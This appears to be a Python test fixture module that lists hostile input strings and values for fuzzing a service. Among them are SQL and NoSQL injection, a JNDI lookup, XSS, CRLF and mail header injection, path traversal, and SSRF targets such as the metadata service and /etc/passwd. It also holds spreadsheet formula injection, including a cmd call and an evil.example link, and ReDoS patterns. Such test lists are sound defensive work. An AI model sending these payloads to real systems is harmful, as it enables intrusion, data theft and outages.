"""Texts that break systems which do not expect them."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from types import MappingProxyType
from typing import Any

TEXTS: Mapping[str, str] = MappingProxyType(
    {
        "empty": "",
        "blank": " \t ",
        "separator": "#",
        "separators": "a#b#STEP#000001",
        "an escape": "%23",
        "an escape of an escape": "%2523",
        "slashes": "../../admin/customers",
        "encoded slashes": "..%2f..%2fadmin",
        "a line": "a\nb",
        "a header": "a\r\nX-Injected: 1",
        "two answers": "a\r\n\r\nHTTP/1.1 200 OK\r\n\r\n{}",
        "NUL": "a\0b",
        "escape sequence": "\x1b[2J\x1b]0;owned\x07",
        "delete": "\x7f",
        "C1": "\x85\x9b",
        "line separators": "\u2028\u2029",
        "end of JSON": '"}],"customer_id":"cus_forged","x":[{"y":"',
        "a log line": '\n{"level":"INFO","message":"answered","customer_id":"cus_forged"}',
        "a metric": '{"_aws":{"Timestamp":1,"CloudWatchMetrics":[{"Namespace":"FlowStack"}]}}',
        "backslash": '\\"\\u0000\\',
        "operator": "$where",
        "operator as JSON": '{"$gt":""}',
        "attribute name": "#s0",
        "attribute value": ":now OR attribute_not_exists(pk)",
        "PartiQL": "' OR '1'='1'; DROP TABLE accounts; --",
        "prototype": "__proto__",
        "dunder": "__class__.__init__.__globals__",
        "format": "%s%n{0.__class__}{customer_id}${jndi:ldap://x/}",
        "template": "$context.requestId {{7*7}} ${7*7} <%= 7*7 %>",
        "formula": '=HYPERLINK("https://evil.example",A1)',
        "formula plus": "+1+cmd|' /C calc'!A0",
        "formula at": "@SUM(1+1)",
        "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "attribute": "\" onmouseover=alert(1) x='",
        "markdown": "[x](javascript:alert(1)) ![x](https://evil.example/p.png)",
        "confusable": "\u0430dmin",
        "full width": "\uff0e\uff0e\uff0f\uff03",
        "ligature": "\ufb01\u0132",
        "decomposed": "e\u0301",
        "many marks": "e" + "\u0301" * 120,
        "right to left": "\u202egnp.exe",
        "no width": "a\u200bb\ufeff",
        "digits of others": "\u0661\u0662\u0663",
        "lone surrogate": "\ud800",
        "reversed pair": "\udc00\ud800",
        "noncharacter": "\uffff\U0010ffff",
        "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "longest name": "\U0001f600" * 128,
        "long": "x" * 9_000,
        "longer in bytes": "%" * 500,
        "number": "1e400",
        "not a number": "NaN",
        "null": "null",
        "year zero": "0000-01",
        "last year": "9999-12",
        "month zero": "2026-00",
        "period of others' digits": "\u0662\u0660\u0662\u0666-11",
        "day out of range": "2026-02-31",
        "week": "2026-W01-1",
        "bomb": "(a+)+$",
        "nested counts": "((a{1,100}){1,100}){1,100}",
        "no pattern": "(?P<",
        "class": "[[:^alpha:]&&\\p{Zzzz}]",
        "metadata service": "http://169.254.169.254/latest/meta-data/",
        "file": "file:///etc/passwd",
        "host with user": "https://api.example.com@127.0.0.1/",
        "bracketed host": "https://[::ffff:127.0.0.1]/",
        "mail header": "a@example.com\r\nBcc: eve@example.com",
        "two mails": "a@example.com,eve@example.com",
        "mail with comment": '"a\\"@b"(c)@example.com',
    }
)
"""By what they are."""

VALUES: Mapping[str, Any] = MappingProxyType(
    {
        "null": None,
        "true": True,
        "zero": 0,
        "minus one": -1,
        "huge": 10**400,
        "too many bits": 2**63,
        "tiny": 5e-324,
        "largest": 1.7976931348623157e308,
        "array": [],
        "nested arrays": [[[[]]]],
        "object": {},
        "operator": {"$ne": None},
        "where": {"$where": "sleep(1000)"},
        "proto": {"__proto__": {"tier": "enterprise"}},
        "surrogate name": {"\ud800": 1},
        "many": [0] * 5_000,
        "empty name": {"": {"": ""}},
    }
)
"""What is no text where one is expected."""


def everything() -> Iterator[tuple[str, Any]]:
    """Yield everything hostile with its name."""
    yield from TEXTS.items()
    yield from VALUES.items()
